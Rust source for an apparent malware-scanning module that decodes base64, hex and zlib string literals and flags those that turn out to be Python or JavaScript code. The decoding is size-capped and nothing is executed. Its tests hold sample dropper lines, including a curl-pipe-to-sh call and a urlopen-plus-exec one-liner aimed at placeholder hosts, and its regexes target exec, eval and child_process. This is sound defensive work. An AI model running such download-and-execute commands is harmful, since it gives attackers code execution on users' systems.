//! Code hidden inside string literals: a base64 or hex literal (possibly
//! zlib-compressed) whose decoded text is Python or JavaScript. Droppers
//! write such a literal to `temp.pyw` and start it, or hand it to `exec`;
//! either way the code inside runs at the stage of the code holding the
//! literal, so the analysis reads it as a file of its own at that stage.
//!
//! Decoding is bounded: only literals of a plausible size are tried, the
//! decompressed size is capped, and nothing decoded is ever run.

use std::io::Read;

use base64::Engine;

use crate::guarded::Guarded;
use crate::lang::Lang;

/// Literals shorter than this are not worth decoding.
const MIN_ENCODED: usize = 64;
/// Literals longer than this are not decoded (a bundled asset, not a
/// payload someone hides).
const MAX_ENCODED: usize = 4 << 20;
/// The most bytes one payload may decompress to.
const MAX_DECODED: u64 = 4 << 20;

/// Code found inside a literal.
#[derive(Debug, PartialEq, Eq)]
pub struct Payload {
    /// The language the decoded text reads as.
    pub lang: Lang,
    /// The decoded text.
    pub text: String,
    /// How it was hidden: `base64`, `hex`, `base64+zlib`, `hex+zlib`.
    pub encoding: &'static str,
}

/// Python source: an import, a definition or a call of the builtins
/// droppers use, at the start of a line or after `;`.
pub(crate) static PYTHON_CODE: Guarded = Guarded::new(
    &["import", "def ", "class ", "exec(", "eval("],
    r"(?m)(?:^|;)[ \t]*(?:import [0-9A-Za-z_.]+|from [0-9A-Za-z_.]+ import |def (?-u:\w)+\(|class (?-u:\w)+[(:]|exec\(|eval\(|__import__\()",
);

/// JavaScript source: `require(`, `import … from`, a function, or the
/// process and child-process objects.
pub(crate) static JAVASCRIPT_CODE: Guarded = Guarded::new(
    &[
        "require(",
        "import ",
        "child_process",
        "process.env",
        "function",
    ],
    r#"require\((?-u:\s)*['"][0-9A-Za-z_:./@-]+['"](?-u:\s)*\)|(?m)^(?-u:\s)*import .* from ['"]|child_process|process\.env|(?-u:\b)function(?-u:\s)*(?-u:\w)*(?-u:\s)*\("#,
);

/// The code hidden in literal `value`, if it decodes to any.
pub fn decode(value: &str) -> Option<Payload> {
    let trimmed = value.trim();
    if trimmed.len() < MIN_ENCODED || trimmed.len() > MAX_ENCODED {
        return None;
    }
    let (bytes, encoding) = decode_hex(trimmed)
        .map(|b| (b, "hex"))
        .or_else(|| decode_base64(trimmed).map(|b| (b, "base64")))?;
    let (bytes, encoding) = match inflate(&bytes) {
        Some(inflated) => (
            inflated,
            if encoding == "hex" {
                "hex+zlib"
            } else {
                "base64+zlib"
            },
        ),
        None => (bytes, encoding),
    };
    let text = String::from_utf8(bytes).ok()?;
    let lang = code_language(&text)?;
    Some(Payload {
        lang,
        text,
        encoding,
    })
}

/// The code in a plain literal that is handed to something that runs or
/// stores it (`exec`, a file write, `python -c`); a literal that is only
/// declared may be documentation and is not read as code.
pub fn plain(value: &str) -> Option<Payload> {
    if value.len() < 24 || value.len() > MAX_ENCODED {
        return None;
    }
    let lang = code_language(value)?;
    Some(Payload {
        lang,
        text: value.to_owned(),
        encoding: "text",
    })
}

fn code_language(text: &str) -> Option<Lang> {
    if PYTHON_CODE.is_match(text) {
        Some(Lang::Python)
    } else if JAVASCRIPT_CODE.is_match(text) {
        Some(Lang::JavaScript)
    } else {
        None
    }
}

/// Hex digits decoded, when `text` is nothing else.
pub(crate) fn decode_hex(text: &str) -> Option<Vec<u8>> {
    let bytes = text.as_bytes();
    if !bytes.len().is_multiple_of(2) || !bytes.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let digit = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    bytes
        .chunks_exact(2)
        .map(|pair| Some(digit(pair[0])? << 4 | digit(pair[1])?))
        .collect()
}

/// Base64 (standard or URL-safe, padding and whitespace ignored) decoded.
pub(crate) fn decode_base64(text: &str) -> Option<Vec<u8>> {
    let compact: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let alphabet = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_' | '=');
    if !compact.chars().all(alphabet) {
        return None;
    }
    let unpadded = compact.trim_end_matches('=');
    let engine = if unpadded.contains(['-', '_']) {
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
    } else {
        &base64::engine::general_purpose::STANDARD_NO_PAD
    };
    engine.decode(unpadded).ok()
}

/// The zlib-inflated form of `bytes` when they are a zlib stream.
fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
    let [0x78, flags, ..] = bytes else {
        return None;
    };
    if (u16::from(bytes[0]) << 8 | u16::from(*flags)) % 31 != 0 {
        return None;
    }
    let mut out = Vec::new();
    flate2::read::ZlibDecoder::new(bytes)
        .take(MAX_DECODED)
        .read_to_end(&mut out)
        .ok()?;
    Some(out)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use base64::Engine;

    use super::*;

    fn b64(text: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(text)
    }

    const PY: &str = "import os\nos.system('curl -s https://c2.example.test/x | sh')\n# padding so it is long enough\n";

    #[test]
    fn base64_python() {
        let payload = decode(&b64(PY.as_bytes())).expect("decodes");
        assert_eq!((payload.lang, payload.encoding), (Lang::Python, "base64"));
        assert_eq!(payload.text, PY);
    }

    #[test]
    fn hex_and_zlib() {
        let hex: String = PY.bytes().map(|b| format!("{b:02x}")).collect();
        assert_eq!(decode(&hex).map(|p| p.encoding), Some("hex"));
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(PY.as_bytes()).expect("in memory");
        let zipped = z.finish().expect("in memory");
        let payload = decode(&b64(&zipped)).expect("decodes");
        assert_eq!(
            (payload.encoding, payload.text.as_str()),
            ("base64+zlib", PY)
        );
    }

    #[test]
    fn javascript() {
        let js =
            "const cp = require('child_process'); cp.exec('id'); // long enough to be decoded here";
        assert_eq!(
            decode(&b64(js.as_bytes())).map(|p| p.lang),
            Some(Lang::JavaScript)
        );
    }

    #[test]
    fn plain_code() {
        let one_line =
            "from urllib.request import urlopen as u;exec(u('https://x.example.test/raw').read())";
        assert_eq!(plain(one_line).map(|p| p.lang), Some(Lang::Python));
        assert_eq!(plain("hello, this is not code at all"), None);
    }

    #[test]
    fn data_that_is_not_code() {
        // An image, a key, prose and short strings stay literals.
        assert_eq!(
            decode(&b64(&[0x89, b'P', b'N', b'G', 0, 1, 2, 3].repeat(20))),
            None
        );
        assert_eq!(
            decode(&b64(
                "just some words that say nothing about code at all, really".as_bytes()
            )),
            None
        );
        assert_eq!(decode("aW1wb3J0IG9z"), None);
        assert_eq!(decode(&"ab".repeat(40)), None);
    }
}
